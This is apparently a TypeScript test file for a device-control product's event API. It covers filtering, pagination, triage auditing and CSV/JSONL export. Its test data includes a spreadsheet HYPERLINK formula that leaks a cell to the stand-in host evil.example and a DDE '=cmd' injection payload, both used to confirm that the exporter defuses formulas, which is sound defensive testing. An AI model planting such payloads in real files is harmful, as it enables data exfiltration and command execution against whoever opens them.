/** The event log over REST: filters, keyset pagination, triage and export. */
import { expect } from 'chai';
import type { EventRecord, NewEvent, Severity } from '../src/store/store.js';
import { START, expectError, makeApi, seedAgent, useApi } from './api-support.js';

const MINUTE_MS = 60_000;
const at = (minutes: number): string => new Date(START + minutes * MINUTE_MS).toISOString();

const TRICKY_NAME = 'Stick, "fast"\r\nedition';
const FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")';

function ev(seq: number, type: string, severity: Severity, minute: number, name: string): NewEvent {
  return { seq, type, severity, occurredAt: at(minute), data: { device: { id: '0781:5567', name } } };
}

// Ten events: agent agt_a (group ga) reports six, agt_b (group gb) four, interleaved in time.
const A_EVENTS = [
  ev(1, 'device.blocked', 'medium', 1, 'SanDisk Cruzer'),
  ev(2, 'device.allowed', 'info', 3, 'Logitech Keyboard'),
  ev(3, 'device.blocked', 'high', 5, TRICKY_NAME),
  ev(4, 'policy.applied', 'info', 7, 'none'),
  ev(5, 'device.blocked', 'critical', 9, FORMULA_NAME),
  ev(6, 'device.allowed', 'low', 11, 'Kingston DataTraveler'),
];
const B_EVENTS = [
  ev(1, 'device.blocked', 'medium', 2, 'Samsung T7'),
  ev(2, 'device.allowed', 'info', 4, 'Dell Mouse'),
  ev(3, 'device.blocked', 'high', 6, 'kingston keyboard'),
  ev(4, 'policy.applied', 'info', 8, 'none'),
];

/** RFC 4180: fields split on commas, quoted fields may hold commas, CRLF and doubled quotes. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i] as string;
    if (quoted) {
      if (c !== '"') {
        cell += c;
      } else if (text[i + 1] === '"') {
        cell += '"';
        i++;
      } else {
        quoted = false;
      }
    } else if (c === '"' && cell === '') {
      quoted = true;
    } else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else {
      cell += c;
    }
  }
  expect(quoted, 'unterminated quoted field').to.equal(false);
  expect([...row, cell].join(''), 'the last line ends with CRLF').to.equal('');
  return rows;
}

describe('REST API events', () => {
  const api = useApi();
  let viewer: string;
  let security: string;
  let all: EventRecord[];

  before(async () => {
    const { store, clock } = api();
    viewer = await api().session('viewer');
    security = await api().session('security');
    for (const g of ['ga', 'gb']) await store.createGroup({ name: g, description: '', createdAt: at(0) });
    await seedAgent(store, { id: 'agt_a', group: 'ga', hostname: 'pc-a' });
    await seedAgent(store, { id: 'agt_b', group: 'gb', hostname: 'pc-b' });
    // Arrival order mixes the two agents, as a busy server would.
    await store.ingestEvents('agt_a', 'ga', A_EVENTS.slice(0, 3), at(20));
    await store.ingestEvents('agt_b', 'gb', B_EVENTS.slice(0, 2), at(21));
    await store.ingestEvents('agt_a', 'ga', A_EVENTS.slice(3), at(22));
    await store.ingestEvents('agt_b', 'gb', B_EVENTS.slice(2), at(23));
    clock.set(START + 30 * MINUTE_MS);
    all = await store.queryEvents({ limit: 100 });
    expect(all).to.have.length(10);
  });

  const list = async (query: string, token = viewer) => {
    const res = await api().call('GET', `/api/v1/events${query}`, { token });
    expect(res.statusCode, res.body).to.equal(200);
    return res.json() as { events: EventRecord[]; nextCursor: string | null };
  };
  const idsOf = (events: readonly EventRecord[]) => events.map((e) => e.id);

  describe('filters', () => {
    const deviceName = (e: EventRecord) => String((e.data.device as { name?: string } | undefined)?.name);
    // One row per filter: the query, and which of all events it must return (newest first).
    const cases: Array<[string, (e: EventRecord) => boolean]> = [
      ['', () => true],
      ['?type=device.blocked', (e) => e.type === 'device.blocked'],
      ['?severity=high', (e) => e.severity === 'high'],
      ['?agent=agt_b', (e) => e.agentId === 'agt_b'],
      ['?group=ga', (e) => e.group === 'ga'],
      ['?status=new', () => true],
      ['?status=resolved', () => false],
      // since inclusive, until exclusive, on when it happened
      [`?since=${at(5)}`, (e) => e.occurredAt >= at(5)],
      [`?until=${at(5)}`, (e) => e.occurredAt < at(5)],
      [`?since=${at(3)}&until=${at(8)}`, (e) => e.occurredAt >= at(3) && e.occurredAt < at(8)],
      ['?since=2026-11-25T11:03:00%2B01:00', (e) => e.occurredAt >= at(3)],
      ['?until=2026-11-26', () => true],
      // q: any case, anywhere in the data
      ['?q=KINGSTON', (e) => /kingston/i.test(deviceName(e))],
      ['?q=%25', () => false], // LIKE wildcards are literal
      ['?q=%22fast%22', (e) => deviceName(e) === TRICKY_NAME],
      ['?group=ga&type=device.allowed&severity=low', (e) => e.group === 'ga' && e.type === 'device.allowed' && e.severity === 'low'],
    ];
    // A time window lists events in the order they happened (newest first, then by id).
    const byOccurrence = (a: EventRecord, b: EventRecord) => (a.occurredAt === b.occurredAt ? b.id - a.id : a.occurredAt < b.occurredAt ? 1 : -1);
    for (const [query, keep] of cases) {
      it(`GET /events${query || ' (no filter)'}`, async () => {
        const window = /[?&](since|until)=/.test(query);
        const expected = idsOf(window ? all.filter(keep).sort(byOccurrence) : all.filter(keep));
        expect(idsOf((await list(query)).events)).to.deep.equal(expected);
      });
    }

    const bad = [
      '?severity=urgent',
      '?since=yesterday',
      '?until=2026-11-25T10:00', // no zone: a guess about the time
      '?since=2026-13-01',
      '?since=2026-02-30', // a day that does not exist
      '?limit=abc',
      '?limit=-1',
      '?limit=10000',
      '?cursor=-1',
      '?cursor=1e3',
      '?status=closed',
      '?type=DEVICE BLOCKED',
      '?group=No%20Group',
      '?q=' + 'x'.repeat(201),
      '?severity=high&severity=low',
      '?page=2',
    ];
    for (const query of bad) {
      it(`refuses GET /events${query.length > 40 ? `${query.slice(0, 40)}…` : query} with 400`, async () => {
        expectError(await api().call('GET', `/api/v1/events${query}`, { token: viewer }), 400);
      });
    }
  });

  describe('pagination', () => {
    for (const [limit, filter] of [[3, ''], [5, ''], [1, '&group=gb'], [4, '&type=device.blocked'], [2, `&since=${at(0)}`], [3, `&since=${at(2)}&until=${at(9)}`]] as const) {
      it(`walks every event once with limit=${limit}${filter}: no duplicates, no gaps, then nextCursor null`, async () => {
        const seen: number[] = [];
        let cursor: string | null = null;
        for (let page = 0; page < 20; page++) {
          const body = await list(`?limit=${limit}${filter}${cursor === null ? '' : `&cursor=${cursor}`}`);
          expect(body.events.length).to.be.at.most(limit);
          seen.push(...idsOf(body.events));
          cursor = body.nextCursor;
          if (cursor === null) break;
          const last = body.events.at(-1) as EventRecord;
          // A time window's cursor carries when the last event happened as well as its id.
          expect(cursor).to.equal(filter.includes('since') ? `t${Date.parse(last.occurredAt)}.${last.id}` : String(last.id));
        }
        expect(cursor).to.equal(null);
        const expected = idsOf((await list(`?limit=100${filter}`)).events);
        expect(seen).to.deep.equal(expected);
      });
    }
  });

  it('pages a substring search through a bounded span, carrying on below it with the cursor', async () => {
    const small = await makeApi({ searchScanRows: 4 });
    try {
      const token = await small.session('viewer');
      const names = ['x', 'needle-1', 'y', 'z', 'w', 'needle-2', 'v', 'u', 'needle-3', 't'];
      for (const name of names) {
        await small.store.ingestEvents(null, 'default', [{ seq: null, type: 'device.blocked', severity: 'high', occurredAt: at(1), data: { device: { name } } }], at(1));
      }
      const found: string[] = [];
      let cursor: string | null = null;
      let pages = 0;
      do {
        const res = await small.call('GET', `/api/v1/events?q=needle&limit=2${cursor === null ? '' : `&cursor=${cursor}`}`, { token });
        expect(res.statusCode, res.body).to.equal(200);
        const body = res.json() as { events: EventRecord[]; nextCursor: string | null; searched?: { fromId: number; toId: number } };
        found.push(...body.events.map((e) => String((e.data.device as { name: string }).name)));
        if (body.events.length < 2) expect(body.searched, 'a short page says what it searched').to.be.an('object');
        cursor = body.nextCursor;
        pages++;
      } while (cursor !== null && pages < 20);
      expect(found).to.deep.equal(['needle-3', 'needle-2', 'needle-1']);
      expect(pages).to.be.greaterThan(1);
    } finally {
      await small.close();
    }
  });

  it('refuses a cursor made for other filters', async () => {
    expectError(await api().call('GET', `/api/v1/events?since=${at(0)}&cursor=5`, { token: viewer }), 400);
    expectError(await api().call('GET', '/api/v1/events?cursor=t1764064800000.5', { token: viewer }), 400);
  });

  describe('one event and triage', () => {
    it('gets one event, or 404 (400 for an id that is not a number)', async () => {
      const first = all.at(-1) as EventRecord;
      const res = await api().call('GET', `/api/v1/events/${first.id}`, { token: viewer });
      expect(res.json()).to.deep.equal({ event: first });
      expectError(await api().call('GET', '/api/v1/events/999999', { token: viewer }), 404);
      expectError(await api().call('GET', '/api/v1/events/abc', { token: viewer }), 400);
    });

    it('lets security triage an event (200, audited) and the status filter see it', async () => {
      const target = all[0] as EventRecord;
      const res = await api().call('PATCH', `/api/v1/events/${target.id}`, {
        token: security,
        body: { status: 'acknowledged', comment: '=cmd|"/c calc"!A1, asked the user' },
      });
      expect(res.statusCode, res.body).to.equal(200);
      expect((res.json() as { event: EventRecord }).event).to.deep.include({ id: target.id, status: 'acknowledged', hash: target.hash });
      const [record] = await api().store.listAudit(1);
      expect(record).to.deep.include({ actor: 'security', action: 'event.triage', target: String(target.id) });
      expect(record?.details).to.deep.include({ from: 'new', to: 'acknowledged' });
      expect(idsOf((await list('?status=acknowledged')).events)).to.deep.equal([target.id]);
    });

    it('refuses triage by a viewer (403), a bad status or an unknown field (400), an unknown event (404)', async () => {
      const id = (all[1] as EventRecord).id;
      expectError(await api().call('PATCH', `/api/v1/events/${id}`, { token: viewer, body: { status: 'resolved' } }), 403);
      expectError(await api().call('PATCH', `/api/v1/events/${id}`, { token: security, body: { status: 'done' } }), 400);
      expectError(await api().call('PATCH', `/api/v1/events/${id}`, { token: security, body: { status: 'resolved', severity: 'info' } }), 400);
      expectError(await api().call('PATCH', '/api/v1/events/999999', { token: security, body: { status: 'resolved' } }), 404);
      expect((await api().store.getEvent(id))?.status).to.equal('new');
    });

    it('keeps the event hash chain intact through triage', async () => {
      expect(await api().store.verifyEventChain()).to.deep.equal({ intact: true, count: 10 });
    });
  });

  describe('export', () => {
    const exportOf = (query: string) => api().call('GET', `/api/v1/events/export${query}`, { token: security });
    before(async () => {
      all = await api().store.queryEvents({ limit: 100 }); // with the triage above
    });

    it('exports JSON lines, oldest first, one parseable event a line, filtered', async () => {
      const res = await exportOf('?format=jsonl&group=ga');
      expect(res.statusCode).to.equal(200);
      expect(res.headers['content-type']).to.match(/^application\/x-ndjson/);
      expect(res.headers['content-disposition']).to.equal('attachment; filename="portcullis-events.jsonl"');
      const lines = res.body.split('\n');
      expect(lines.pop()).to.equal('');
      const events = lines.map((l) => JSON.parse(l) as EventRecord);
      expect(idsOf(events)).to.deep.equal(idsOf(all.filter((e) => e.group === 'ga')).reverse());
      expect(events.map((e) => e.data)).to.deep.equal(A_EVENTS.map((e) => e.data));
    });

    it('exports CSV with a header and RFC 4180 quoting that round-trips commas, quotes and line breaks', async () => {
      const res = await exportOf('?format=csv');
      expect(res.statusCode).to.equal(200);
      expect(res.headers['content-type']).to.match(/^text\/csv/);
      const rows = parseCsv(res.body);
      expect(rows[0]).to.deep.equal(['id', 'receivedAt', 'occurredAt', 'agentId', 'group', 'seq', 'type', 'severity', 'status', 'comment', 'data', 'hash']);
      expect(rows).to.have.length(11);
      const byId = new Map(rows.slice(1).map((r) => [Number(r[0]), r]));
      for (const e of all) {
        const row = byId.get(e.id) as string[];
        expect(row.slice(1, 9)).to.deep.equal([e.receivedAt, e.occurredAt, e.agentId, e.group, String(e.seq), e.type, e.severity, e.status]);
        expect(JSON.parse(row[10] as string)).to.deep.equal(e.data);
        expect(row[11]).to.equal(e.hash);
      }
      expect(res.body).to.include(JSON.stringify(TRICKY_NAME).replaceAll('"', '""'));
    });

    it('defuses cells a spreadsheet would run as a formula', async () => {
      const rows = parseCsv((await exportOf('?format=csv')).body);
      const triaged = rows.find((r) => r[0] === String(all[0]?.id)) as string[];
      expect(triaged[9]).to.equal(`'=cmd|"/c calc"!A1, asked the user`);
      // A device name travels inside the data cell, which is JSON and so starts with "{".
      const formulaRow = rows.find((r) => (r[10] ?? '').includes('HYPERLINK')) as string[];
      expect(formulaRow[10]?.startsWith('{')).to.equal(true);
      expect(JSON.parse(formulaRow[10] as string)).to.deep.equal({ device: { id: '0781:5567', name: FORMULA_NAME } });
      for (const row of rows) for (const cell of row) expect(cell, `a cell of event ${row[0]}`).to.not.match(/^[=+\-@\t\r]/);
    });

    it('audits each export with its format and filters, and refuses a bad format (400) or a viewer (403)', async () => {
      await exportOf('?format=csv&severity=high');
      const [record] = await api().store.listAudit(1);
      expect(record).to.deep.include({ actor: 'security', action: 'event.export', target: 'csv' });
      expect(record?.details.filters).to.deep.equal({ format: 'csv', severity: 'high' });
      expectError(await exportOf('?format=xlsx'), 400);
      expectError(await exportOf('?since=yesterday'), 400);
      expectError(await api().call('GET', '/api/v1/events/export', { token: viewer }), 403);
    });

    it('still has an intact event chain after triage and export', async () => {
      expect(await api().store.verifyEventChain()).to.deep.equal({ intact: true, count: 10 });
    });
  });
});
